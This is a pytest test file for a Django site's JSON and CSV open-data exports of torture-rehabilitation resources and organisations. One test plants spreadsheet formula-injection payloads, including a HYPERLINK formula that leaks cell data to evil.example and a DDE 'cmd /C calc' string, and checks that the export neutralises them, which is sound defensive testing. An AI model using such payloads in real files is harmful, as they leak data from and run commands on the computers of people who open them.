"""Open data: the exports hold exactly the search page's results, published only, with no
submitter data, in files a spreadsheet cannot be tricked by."""

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from opendata import exports
from organizations.models import Organization
from resources.models import Resource
from submissions.models import Submission
from thesaurus.models import Audience, Region

from .factories import make_organization, make_resource

pytestmark = pytest.mark.django_db
CANARY_EMAIL = "canary-submitter-7741@example.org"
CANARY_NAME = "Zebulon Canary-Submitter"


def read_csv(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def csv_text(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def page_slugs(client, params) -> list[str]:
    response = client.get(reverse("search:list"), params)
    return [resource.slug for resource in response.context["resources"]]


@pytest.fixture
def library():
    cvt = make_organization(name="Center for Victims of Torture", acronym="CVT", slug="cvt")
    irct = make_organization(name="International Rehabilitation Council for Torture Victims",
                             acronym="IRCT", slug="irct")  # fmt: skip
    draft_org = make_organization(name="Secret draft organisation", slug="secret",
                                  status=Organization.Status.DRAFT)  # fmt: skip
    mexico = Region.objects.create(name="Mexico", slug="mexico", code="MX")
    clinicians = Audience.objects.get(slug="clinicians")
    day = dt.date(2024, 5, 1)
    published = [
        make_resource(title="The Istanbul Protocol explained", kind=Resource.Kind.VIDEO,
                      summary="Documenting torture for courts.", topics=["Istanbul Protocol"],
                      organizations=[irct, draft_org], date=day),
        make_resource(title="Identifying the torture of children",
                      kind=Resource.Kind.ON_DEMAND_TRAINING,
                      topics=["Children", "Istanbul Protocol"],
                      summary="A training for paediatric clinicians.", organizations=[cvt],
                      date=day.replace(year=2022), ce_credit=True,
                      presenters="Jeffrey Goldhagen, ISSOP\nSecond Presenter, CVT"),
        make_resource(title="Group work with survivors of torture", kind=Resource.Kind.WEBINAR,
                      summary="Engaging communities through group therapy.",
                      topics=["Group work"], organizations=[cvt], date=day.replace(year=2017),
                      recording_url="https://example.org/recording",
                      starts_at=dt.datetime(2017, 5, 1, 17, tzinfo=dt.UTC),
                      timezone="America/Chicago"),
        make_resource(title="Working with interpreters", kind=Resource.Kind.GUIDE,
                      summary="Practical guidance on interpreting in therapy.",
                      language="es", date=day.replace(year=2020)),
    ]  # fmt: skip
    published[1].audiences.add(clinicians)
    published[0].regions.add(mexico)
    hidden = [
        make_resource(
            title=f"Torture protocol {status} draft",
            status=status,
            kind=Resource.Kind.VIDEO,
            topics=["Istanbul Protocol"],
            organizations=[cvt],
        )
        for status in ["draft", "pending", "rejected", "archived"]
    ]
    Submission.objects.create(resource=hidden[1], email=CANARY_EMAIL, name=CANARY_NAME,
                              organization="Canary Org", message="Private note")  # fmt: skip
    Submission.objects.create(resource=published[2], email=CANARY_EMAIL, name=CANARY_NAME,
                              decision=Submission.Decision.APPROVED)  # fmt: skip
    return {"published": published, "hidden": hidden}


SEARCHES = [
    {},
    {"q": "torture"},
    {"q": "istan"},
    {"kind": ["video", "webinar"]},
    {"topic": "istanbul-protocol", "sort": "title"},
    {"organization": "cvt", "sort": "oldest"},
    {"language": "es"},
    {"year": "2024"},
    {"q": "torture", "has": "recording"},
    {"kind": "not-a-kind"},  # dropped by the search page too: everything
]


@pytest.mark.parametrize("params", SEARCHES)
def test_the_exports_hold_the_search_pages_results_in_its_order(client, library, params):
    expected = page_slugs(client, params)

    data = client.get("/resources.json", params).json()
    rows = read_csv(client.get("/resources.csv", params))

    assert [r["slug"] for r in data["results"]] == expected
    assert data["count"] == len(expected)
    assert [r["slug"] for r in rows] == expected


def test_no_unpublished_resource_organisation_or_submitter_data_is_exported(client, library):
    everything = [
        client.get("/resources.json").content.decode(),
        client.get("/resources.json", {"q": "protocol draft"}).content.decode(),
        csv_text(client.get("/resources.csv")),
        client.get("/organizations.json").content.decode(),
        csv_text(client.get("/organizations.csv")),
    ]
    for text in everything:
        for secret in [CANARY_EMAIL, CANARY_NAME, "Canary Org", "Private note",
                       "Secret draft organisation", " draft"]:  # fmt: skip
            assert secret not in text
    slugs = {r["slug"] for r in client.get("/resources.json").json()["results"]}
    assert slugs == {r.slug for r in library["published"]}


def test_a_resource_has_every_documented_field(client, library):
    data = client.get("/resources.json", {"q": "children"}).json()
    (record,) = data["results"]
    resource = library["published"][1]

    assert list(record) == exports.RESOURCE_FIELDS
    assert record["url"] == f"http://testserver{resource.get_absolute_url()}"
    assert record["kind"] == "on-demand-training"
    assert record["organizations"] == ["Center for Victims of Torture"]
    assert record["topics"] == ["Children", "Istanbul Protocol"]
    assert record["audiences"] == ["Clinicians"]
    assert record["presenters"] == ["Jeffrey Goldhagen, ISSOP", "Second Presenter, CVT"]
    assert record["ce_credit"] is True
    assert record["date"] == "2022-05-01"
    assert record["link"] is None
    assert record["published_at"].endswith("+00:00")

    session = client.get("/resources.json", {"kind": "webinar"}).json()["results"][0]
    assert session["starts_at"] == "2017-05-01T17:00:00+00:00"
    assert session["timezone"] == "America/Chicago"
    assert session["recording_link"] == "https://example.org/recording"

    (row,) = read_csv(client.get("/resources.csv", {"q": "children"}))
    assert list(row) == exports.RESOURCE_FIELDS
    assert row["presenters"] == "Jeffrey Goldhagen, ISSOP; Second Presenter, CVT"
    assert row["topics"] == "Children; Istanbul Protocol"
    assert row["ce_credit"] == "true"
    assert row["link"] == ""


def test_csv_cells_never_start_a_formula(client):
    make_resource(
        title='=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
        summary="+1 cmd|' /C calc'!A0",
        presenters="@SUM(1+1)\n-2+3",
        url="https://example.org/ok",
    )
    make_resource(title="\tTabbed title", summary="\rCarriage return summary")

    rows = read_csv(client.get("/resources.csv", {"sort": "title"}))
    cells = [value for row in rows for value in row.values()]

    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    by_title = {row["title"]: row for row in rows}
    row = by_title['\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")']
    assert row["summary"] == "'+1 cmd|' /C calc'!A0"
    assert row["presenters"] == "'@SUM(1+1); -2+3"
    assert "'\tTabbed title" in by_title
    # JSON is not a spreadsheet: it keeps the text as it is.
    titles = [r["title"] for r in client.get("/resources.json").json()["results"]]
    assert '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")' in titles


def test_the_csv_is_a_named_download(client, library):
    response = client.get("/resources.csv")

    assert response.streaming
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="healtorture-resources-')
    assert disposition.endswith('.csv"')
    assert response["Access-Control-Allow-Origin"] == "*"


def test_json_pages_link_to_each_other(client, monkeypatch):
    monkeypatch.setattr(exports, "PAGE_SIZE", 2)
    for n in range(5):
        make_resource(title=f"Torture care {n}", date=dt.date(2024, 1, n + 1))

    first = client.get("/resources.json", {"q": "torture", "sort": "newest"}).json()
    assert (first["count"], first["page"], first["pages"]) == (5, 1, 3)
    assert first["previous"] is None
    assert first["next"] == "http://testserver/resources.json?q=torture&sort=newest&page=2"

    second = client.get(first["next"]).json()
    assert second["previous"] == "http://testserver/resources.json?q=torture&sort=newest&page=1"
    last = client.get(second["next"]).json()
    assert last["next"] is None
    titles = [r["title"] for page in (first, second, last) for r in page["results"]]
    assert titles == [f"Torture care {n}" for n in (4, 3, 2, 1, 0)]

    beyond = client.get("/resources.json", {"page": "4"})
    assert beyond.status_code == 404
    assert "page" in beyond.json()["parameters"]


@pytest.mark.parametrize(
    "params",
    [
        {"page": "0"},
        {"page": "two"},
        {"page": "-1"},
        {"date_from": "yesterday"},
        {"sort": "random"},
        {"topic_mode": "some"},
        {"q": "x" * 300},
    ],
)
def test_malformed_parameters_are_a_400_with_a_json_error(client, params):
    make_resource(title="Anything")

    response = client.get("/resources.json", params)

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    body = response.json()
    assert body["error"]
    assert set(body["parameters"]) == set(params)


def test_malformed_parameters_are_a_400_for_csv_too(client):
    response = client.get("/resources.csv", {"date_to": "31/12/2024"})

    assert response.status_code == 400
    assert "date_to" in response.content.decode()


def test_the_json_page_costs_the_same_queries_for_more_content(client):
    def queries(params) -> int:
        with CaptureQueriesContext(connection) as captured:
            response = client.get("/resources.json", params)
            assert response.status_code == 200
        return len(captured)

    def add(n: int) -> None:
        mexico, _ = Region.objects.get_or_create(name="Mexico", slug="mexico")
        clinicians = Audience.objects.get(slug="clinicians")
        for i in range(n):
            resource = make_resource(title=f"Torture care {i}", topics=[f"T{i}", "Shared"],
                                     organizations=[make_organization()])  # fmt: skip
            resource.regions.add(mexico)
            resource.audiences.add(clinicians)

    add(2)
    few = [queries({}), queries({"q": "torture", "topic": "shared"})]
    add(9)
    assert [queries({}), queries({"q": "torture", "topic": "shared"})] == few
    # The content version (the key of cached counts), the count (with the facets), the page's ids
    # (from the narrow search rows), its resources and their four lists of names.
    assert few[0] <= 8


def test_the_csv_costs_the_same_queries_for_more_content(client):
    def queries() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as captured:
            rows = read_csv(client.get("/resources.csv", {"q": "torture"}))
        return len(captured), len(rows)

    make_resource(title="Torture care", topics=["A"], organizations=[make_organization()])
    few, count = queries()
    for i in range(12):
        make_resource(title=f"Torture care {i}", topics=[f"T{i}"],
                      organizations=[make_organization()])  # fmt: skip
    assert queries() == (few, count + 12)


def test_the_csv_fetches_related_names_a_chunk_at_a_time(client, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 3)
    for i in range(7):
        make_resource(title=f"Care {i}", topics=[f"T{i}"], organizations=[make_organization()])

    with CaptureQueriesContext(connection) as captured:
        rows = read_csv(client.get("/resources.csv"))

    assert len(rows) == 7
    prefetches = [q for q in captured if "organizations_organization" in q["sql"]]
    assert len(prefetches) == 3  # ceil(7 / 3) chunks


# --- organisations ---------------------------------------------------------------------------


@pytest.fixture
def directory():
    irct = make_organization(name="International Rehabilitation Council for Torture Victims",
                             acronym="IRCT", slug="irct", kind=Organization.Kind.NETWORK,
                             is_key=True, website="https://irct.org")  # fmt: skip
    denmark = Region.objects.create(name="Denmark", slug="denmark", code="DK")
    irct.headquarters = denmark
    irct.save()
    cvt = make_organization(name="Center for Victims of Torture", acronym="CVT", slug="cvt")
    cvt.networks.add(irct)
    cvt.regions_served.add(denmark)
    draft_network = make_organization(name="Hidden network", slug="hidden-network",
                                      status=Organization.Status.DRAFT,
                                      kind=Organization.Kind.NETWORK)  # fmt: skip
    cvt.networks.add(draft_network)
    make_organization(name="Archived centre", slug="archived",
                      status=Organization.Status.ARCHIVED)  # fmt: skip
    make_resource(title="Published", organizations=[cvt])
    make_resource(title="Pending", organizations=[cvt], status=Resource.Status.PENDING)
    return {"irct": irct, "cvt": cvt}


def test_the_organisation_exports_list_published_organisations(client, directory):
    data = client.get("/organizations.json").json()
    rows = read_csv(client.get("/organizations.csv"))

    assert [r["slug"] for r in data["results"]] == ["irct", "cvt"]  # key ones first
    assert [r["slug"] for r in rows] == ["irct", "cvt"]
    irct, cvt = data["results"]
    assert irct["headquarters"] == "Denmark"
    assert irct["headquarters_code"] == "DK"
    assert irct["key"] is True
    assert irct["kind"] == "network"
    assert cvt["networks"] == ["International Rehabilitation Council for Torture Victims"]
    assert cvt["regions_served"] == ["Denmark"]
    assert cvt["resource_count"] == 1  # the pending one is not counted
    assert cvt["url"] == f"http://testserver{reverse('organizations:detail', args=['cvt'])}"
    assert rows[1]["networks"] == "International Rehabilitation Council for Torture Victims"
    assert rows[1]["resource_count"] == "1"


def test_the_organisation_exports_take_the_directorys_filters(client, directory):
    assert [r["slug"] for r in client.get("/organizations.json", {"kind": "network"}).json()[
        "results"]] == ["irct"]  # fmt: skip
    assert [r["slug"] for r in client.get("/organizations.json", {"q": "cvt"}).json()[
        "results"]] == ["cvt"]  # fmt: skip
    by_country = read_csv(client.get("/organizations.csv", {"country": "denmark"}))
    assert [r["slug"] for r in by_country] == ["irct", "cvt"]

    for params in [{"kind": "nope"}, {"country": "atlantis"}, {"page": "x"}]:
        response = client.get("/organizations.json", params)
        assert response.status_code == 400, params
        assert set(response.json()["parameters"]) == set(params)
    assert client.get("/organizations.csv", {"kind": "nope"}).status_code == 400


def test_the_open_data_page_documents_every_field(client):
    response = client.get(reverse("open-data"))

    assert response.status_code == 200
    for field in exports.RESOURCE_FIELDS:
        assert f"<code>{field}</code>" in response.text, field
    from opendata.organization_exports import ORGANIZATION_FIELDS

    for field in ORGANIZATION_FIELDS:
        assert f"<code>{field}</code>" in response.text, field
